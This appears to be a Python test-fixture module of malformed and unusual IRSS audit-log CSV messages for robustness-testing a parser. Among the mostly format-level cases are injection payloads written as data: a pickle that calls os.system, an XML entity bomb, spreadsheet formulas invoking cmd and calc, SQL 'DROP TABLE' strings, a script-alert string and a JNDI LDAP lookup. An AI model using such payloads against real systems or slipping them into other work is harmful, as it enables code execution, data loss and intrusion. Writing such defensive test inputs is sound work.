"""IRSS: messages that are broken or meant to break something, and strange ones that are right."""

from __future__ import annotations

from typing import Final

HEADER: Final = b"User ID,Function,Record Type,Record Number,Date,Time,Status,Workstation,Reason,Results,Log No,Unit"
ROW: Final = b"mhenders,View,Case,C0042,01/05/2026,8:14 AM,Success,WS-0417,For court,3,88102,North"
GOOD: Final = HEADER + b"\n" + ROW
CELLS: Final = tuple(ROW.split(b","))
NAMES: Final = tuple(HEADER.split(b","))


def with_cell(name: bytes, cell: bytes) -> bytes:
    """The good message with another cell under this column, byte for byte."""
    place = NAMES.index(name)
    return HEADER + b"\n" + b",".join((*CELLS[:place], cell, *CELLS[place + 1 :]))


def with_header(old: bytes, new: bytes) -> bytes:
    """The good message with something else in its header."""
    assert old in HEADER
    return HEADER.replace(old, new, 1) + b"\n" + ROW


HOSTILE: Final[dict[str, bytes]] = {
    # not a header line, a newline and one row
    "one newline": b"\n",
    "header alone": HEADER,
    "header and an empty row": HEADER + b"\n",
    "row alone": ROW,
    "row before header": ROW + b"\n" + HEADER,
    "two rows": GOOD + b"\n" + ROW,
    "line end after the row": GOOD + b"\n",
    "CR LF after the row": GOOD + b"\r\n",
    "CR LF after the header": HEADER + b"\r\n" + ROW,
    "CR alone as a line end": GOOD.replace(b"\n", b"\r"),
    "a title before the header": b"IRSS audit\n" + GOOD,
    "a footer as the row": HEADER + b"\n(1,234 rows)",
    "the header as the row": HEADER + b"\n" + HEADER,
    "cut off in the row": GOOD[:-40],
    "cut off in the header": HEADER[:40] + b"\n" + ROW,
    "a cell too few": GOOD.removesuffix(b",North"),
    "a cell too many": GOOD + b",",
    "a comma without quotes": with_cell(b"Reason", b"Smith, John"),
    "another delimiter than the header's": HEADER + b"\n" + ROW.replace(b",", b";"),
    "JSON": b'{"user":"mhenders",\n"function":"View"}',
    "XML bomb": b'<!DOCTYPE a [<!ENTITY b "&c;&c;">\n<!ENTITY c "ha">]><a>&b;</a>',
    "pickle": b"\x80\x04cos\nsystem\n(S'id'\ntR.",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x0a\x03\x00",
    "larger than a message may be": GOOD + b"x" * 65_536,
    "a header larger than a message may be": HEADER + b"," * 65_536 + b"\n" + ROW,
    "65,000 columns": HEADER + b"," * 65_000 + b"\n" + ROW,
    # quotes
    "a quote that is never closed": with_cell(b"Reason", b'"For court'),
    "30,000 quotes that are never closed": with_cell(b"Reason", b'"' + b'""' * 30_000),
    "a quote inside a cell": with_cell(b"Reason", b'For "court"'),
    "a space before a quote": with_cell(b"Reason", b' "For court"'),
    "something after a quote": with_cell(b"Reason", b'"For"court'),
    "a backslash instead of a doubled quote": with_cell(b"Reason", b'"For \\"court\\""'),
    "a line end without quotes": with_cell(b"Reason", b"For\ncourt"),
    "a formula that spreadsheets write without quotes": with_cell(b"Record Number", b'="00042"'),
    "a header that is quoted over two lines": with_header(b"Unit", b'"Unit\nof work"'),
    # encodings
    "UTF-8 with its mark": b"\xef\xbb\xbf" + GOOD,
    "UTF-16": GOOD.decode().encode("utf-16"),
    "UTF-16 without its mark": GOOD.decode().encode("utf-16-le"),
    "UTF-32": GOOD.decode().encode("utf-32-be"),
    "EBCDIC": GOOD.decode().encode("cp037"),
    "a byte that Windows-1252 does not define": with_cell(b"Reason", b"For \x81 court"),
    "the last of those": with_cell(b"Unit", b"\x9d"),
    "one of those in the header": with_header(b"Unit", b"Un\x8dt"),
    "a quotation mark in UTF-8": with_cell(b"Reason", "For \u201dcourt\u201d".encode()),
    "a right-to-left mark in UTF-8": with_cell(b"User ID", "mhen\u202eders".encode()),
    "Cyrillic look-alikes in UTF-8": with_cell(b"User ID", "mh\u0435nders".encode()),
    "full-width digits in UTF-8": with_cell(b"Record Number", "C\uff10\uff10".encode()),
    # control characters
    "NUL in the user": with_cell(b"User ID", b"mhen\0ders"),
    "NUL in a column that is ignored": with_cell(b"Unit", b"\0"),
    "a unit separator in the record": with_cell(b"Record Number", b"C\x1f42"),
    "a terminal escape in the reason": with_cell(b"Reason", b"\x1b[2J\x1b]0;x\x07"),
    "backspaces in the user": with_cell(b"User ID", b"admin\x08\x08\x08\x08\x08mhenders"),
    "DEL in the workstation": with_cell(b"Workstation", b"WS\x7f"),
    "a vertical tab in the header": with_header(b"Unit", b"Un\x0bit"),
    "end of file as DOS had it": GOOD + b"\x1a",
    "a tab in the user": with_cell(b"User ID", b"mhen\tders"),
    "a line end in the user": with_cell(b"User ID", b'"mhen\nders"'),
    # columns
    "no user": with_header(b"User ID", b"Usr ID"),
    "no function": with_header(b"Function", b"F"),
    "no record type": with_header(b"Record Type", b"Type"),
    "no record number": with_header(b"Record Number", b"Number"),
    "no date": with_header(b"Date", b"Day"),
    "no time": with_header(b"Time", b"Hour"),
    "neither date nor time": HEADER.replace(b"Date,Time", b"Day,Hour") + b"\n" + ROW,
    "no status": with_header(b"Status", b"State"),
    "user twice": with_header(b"Unit", b"USER_ID"),
    "user under two names": with_header(b"Unit", b"Login"),
    "reason twice": with_header(b"Unit", b"Reason"),
    "log number twice": with_header(b"Unit", b"Log #"),
    "date beside date and time": with_header(b"Unit", b"Timestamp"),
    "two delimiters that tell as much apart": HEADER + b";" + HEADER.replace(b",", b";") + b"\n" + ROW,
    "a name of the person for the user": with_header(b"User ID", b"User Name"),
    "a zero-width space in a name, in UTF-8": with_header(b"User ID", "User\u200bID".encode()),
    # cells
    "empty user": with_cell(b"User ID", b""),
    "blank user": with_cell(b"User ID", b"   "),
    "two users": with_cell(b"User ID", b"mhenders rivera"),
    "user of 201 characters": with_cell(b"User ID", b"x" * 201),
    "user with an accent": with_cell(b"User ID", b"andr\xe9"),
    "user with a no-break space": with_cell(b"User ID", b"mhenders\xa0"),
    "user with a soft hyphen": with_cell(b"User ID", b"mhen\xadders"),
    "unknown function": with_cell(b"Function", b"Look"),
    "function with something behind it": with_cell(b"Function", b"View; DROP TABLE access"),
    "empty function": with_cell(b"Function", b""),
    "unknown record type": with_cell(b"Record Type", b"Cases"),
    "empty record number": with_cell(b"Record Number", b""),
    "record number that a spreadsheet shortened": with_cell(b"Record Number", b"1.20E+11"),
    "unknown status": with_cell(b"Status", b"Succ"),
    "empty status": with_cell(b"Status", b""),
    "day before month": with_cell(b"Date", b"13/01/2026"),
    "30 February": with_cell(b"Date", b"02/30/2026"),
    "date as in ISO 8601": with_cell(b"Date", b"2026-01-05"),
    "year of two digits": with_cell(b"Date", b"01/05/26"),
    "year of five digits": with_cell(b"Date", b"01/05/20266"),
    "date in another century": with_cell(b"Date", b"01/05/1899"),
    "the last year": with_cell(b"Date", b"12/31/9999"),
    "date of zeros": with_cell(b"Date", b"00/00/0000"),
    "date as a spreadsheet counts": with_cell(b"Date", b"46027"),
    "date and time in the column for dates": with_cell(b"Date", b"01/05/2026 00:00"),
    "superscript digits": with_cell(b"Date", b"01/05/202\xb2"),
    "empty date": with_cell(b"Date", b""),
    "empty time": with_cell(b"Time", b""),
    "24:00": with_cell(b"Time", b"24:00"),
    "minute 60": with_cell(b"Time", b"08:60"),
    "leap second": with_cell(b"Time", b"23:59:60"),
    "0:14 AM": with_cell(b"Time", b"0:14 AM"),
    "13:14 PM": with_cell(b"Time", b"13:14 PM"),
    "time with an offset": with_cell(b"Time", b"08:14-05:00"),
    "time with milliseconds": with_cell(b"Time", b"08:14:03.120"),
    "negative time": with_cell(b"Time", b"-8:14"),
    "time that no clock showed": with_cell(b"Date", b"03/08/2026").replace(b"8:14 AM", b"2:30 AM"),
    "results with a sign": with_cell(b"Results", b"-1"),
    "results with a fraction": with_cell(b"Results", b"3.0"),
    "results above what may be": with_cell(b"Results", b"1000000001"),
    "results of 60,000 digits": with_cell(b"Results", b"9" * 60_000),
    "results with a comma in the wrong place": with_cell(b"Results", b'"12,34"'),
    "results as a spreadsheet says wrong": with_cell(b"Results", b"#REF!"),
    "reason of 2001 characters": with_cell(b"Reason", b"x" * 2001),
    "workstation with a space": with_cell(b"Workstation", b"WS 0417"),
    "workstation of 201 characters": with_cell(b"Workstation", b"W" * 201),
}

HARMLESS: Final[dict[str, bytes]] = {
    "as it should be": GOOD,
    "every cell in quotes": HEADER + b"\n" + b",".join(b'"%b"' % cell for cell in CELLS),
    "every name in quotes": b",".join(b'"%b"' % name for name in NAMES) + b"\n" + ROW,
    "tabs": GOOD.replace(b",", b"\t"),
    "semicolons": GOOD.replace(b",", b";"),
    "names in capitals": HEADER.upper() + b"\n" + ROW,
    "names with underscores and spaces": HEADER.replace(b" ", b"__").replace(b",", b" , ") + b"\n" + ROW,
    "columns without a name": with_header(b"Unit", b""),
    "an ignored column twice": HEADER + b",Unit\n" + ROW + b",South",
    "a thousand ignored columns": HEADER + b",x" * 1000 + b"\n" + ROW + b"," * 1000,
    "spaces around cells": HEADER + b"\n" + ROW.replace(b",", b"  , "),
    "a comma in a name, tabs between": HEADER.replace(b",", b"\t").replace(b"Unit", b"Unit, Reason")
    + b"\n"
    + ROW.replace(b",", b"\t"),
    "no optional value": HEADER + b"\n" + b",".join((*CELLS[:7], b"", b"", b"", b"", b"")),
    "a formula for a user": with_cell(b"User ID", b"=cmd|'/c"),
    "a formula for a record": with_cell(b"Record Number", b'"=""00042"""'),
    "a formula for a reason": with_cell(b"Reason", b"@SUM(1+1)*cmd|' /C calc'!A0"),
    "a script for a reason": with_cell(b"Reason", b"<script>alert(1)</script>"),
    "SQL for a reason": with_cell(b"Reason", b"'; DROP TABLE access; --"),
    "a template for a reason": with_cell(b"Reason", b"${jndi:ldap://x/} {{7*7}} %s %n"),
    "accents for a reason": with_cell(b"Reason", b"Andr\xe9\x92s \x80 \x93note\x94"),
    "a tab for a reason": with_cell(b"Reason", b"For\tcourt"),
    "line ends in a reason": with_cell(b"Reason", b'"For\r\ncourt\n\r"'),
    "a row inside a reason": with_cell(b"Reason", b'"\n%b\n(1 row)\n"' % ROW),
    "quotes alone for a reason": with_cell(b"Reason", b'""""""'),
    "reason of 2000 characters": with_cell(b"Reason", b"\xe9" * 2000),
    "30,000 quotes in a column that is ignored": with_cell(b"Unit", b'"' + b'""' * 30_000 + b'"'),
    "user of 200 characters": with_cell(b"User ID", b"~" * 200),
    "print screen with an underscore": with_cell(b"Function", b" PRINT_screen "),
    "the first day": with_cell(b"Date", b"01/01/1900"),
    "the last day": with_cell(b"Date", b"12/31/9998"),
    "29 February": with_cell(b"Date", b"2/29/2028"),
    "noon": with_cell(b"Time", b"12:00pm"),
    "midnight": with_cell(b"Time", b"0:00"),
    "results with commas": with_cell(b"Results", b'"1,000,000,000"'),
    "a log number that is none": with_cell(b"Log No", b"n/a"),
}
